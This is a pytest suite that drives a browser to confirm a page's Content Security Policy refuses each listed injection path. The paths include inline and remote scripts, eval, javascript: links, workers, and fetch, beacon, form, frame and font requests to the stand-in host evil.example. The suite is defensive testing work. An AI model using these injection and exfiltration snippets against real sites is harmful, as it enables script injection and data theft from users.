"""The page's policy lets nothing in: each way is tried in the page itself, and seen refused."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from support.browser import Watched

_ADD = "const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));"
#: What is tried, and the directive that must refuse it.
WAYS = {
    "script": ("add('script', { textContent: 'window.hit = 1' })", "script-src-elem"),
    "module": (
        "add('script', { type: 'module', textContent: 'window.hit = 1' })",
        "script-src-elem",
    ),
    "remote script": ("add('script', { src: 'https://evil.example/x.js' })", "script-src-elem"),
    "data script": (
        "add('script', { src: 'data:text/javascript,window.hit=1' })",
        "script-src-elem",
    ),
    "handler": (
        "document.body.setAttribute('onclick', 'window.hit = 1'); document.body.click()",
        "script-src-attr",
    ),
    "address": (
        "add('a', { href: 'javascript:window.hit=1', id: 'way' }); document.getElementById('way').click()",
        "script-src-elem",
    ),
    "eval": ("setTimeout(() => eval('window.hit = 1'))", "script-src"),
    "function": ("setTimeout(() => new Function('window.hit = 1')())", "script-src"),
    "timer": ("setTimeout('window.hit = 1')", "script-src"),
    "webassembly": (
        "WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => { window.hit = 1; }, () => {})",
        "script-src",
    ),
    "import": ("import('data:text/javascript,window.hit=1').catch(() => {})", "script-src-elem"),
    "fetch": (
        "fetch('https://evil.example/').then(() => { window.hit = 1; }, () => {})",
        "connect-src",
    ),
    "xhr": (
        "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/'); x.send()",
        "connect-src",
    ),
    "socket": ("try { new WebSocket('wss://evil.example/') } catch {}", "connect-src"),
    "events": ("new EventSource('https://evil.example/')", "connect-src"),
    "beacon": ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
    "form": (
        "add('form', { action: 'https://evil.example/', id: 'way' }); document.getElementById('way').submit()",
        "form-action",
    ),
    "frame": ("add('iframe', { src: 'https://evil.example/' })", "frame-src"),
    "data frame": ("add('iframe', { src: 'data:text/html,x' })", "frame-src"),
    "object": ("add('object', { data: 'https://evil.example/x.swf' })", "object-src"),
    "embed": ("add('embed', { src: 'https://evil.example/x.swf' })", "object-src"),
    "base": (
        "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))",
        "base-uri",
    ),
    "worker": ("new Worker(URL.createObjectURL(new Blob(['1'])))", "worker-src"),
    "picture": ("add('img', { src: 'https://evil.example/x.png' })", "img-src"),
    "sound": ("add('audio', { src: 'https://evil.example/x.mp3' })", "media-src"),
    "font": (
        "new FontFace('x', 'url(https://evil.example/x.woff)').load().catch(() => {})",
        "font-src",
    ),
    "style": ("add('style', { textContent: 'body { color: red }' })", "style-src-elem"),
    "remote style": (
        "add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })",
        "style-src-elem",
    ),
    "style attribute": (
        "add('div', { innerHTML: '<p style=\"color: red\">x</p>' })",
        "style-src-attr",
    ),
}


@pytest.mark.parametrize("way", WAYS)
def test_the_policy_refuses(way: str, real_page: Path, watch: Callable[..., Watched]) -> None:
    """The browser names the directive, nothing runs, and nothing leaves the page."""
    code, directive = WAYS[way]
    watched = watch().open(real_page)
    page = watched.page
    # A request that the policy stops is made known, and ends before it begins.
    stopped: list[str] = []
    page.on("requestfailed", lambda request: stopped.append(f"{request.url} {request.failure}"))

    refused = page.evaluate(
        f"""() => new Promise((done) => {{
            {_ADD}
            addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), {{ once: true }});
            try {{ {code} }} catch {{ /* the event tells */ }}
            setTimeout(() => done('nothing was refused'), 5000);
        }})"""
    )

    assert refused == directive
    assert page.evaluate("window.hit ?? null") is None
    assert page.url == real_page.as_uri()
    asked = [url for url in watched.requests if url.startswith("http")]
    assert stopped == [f"{url} csp" for url in asked]
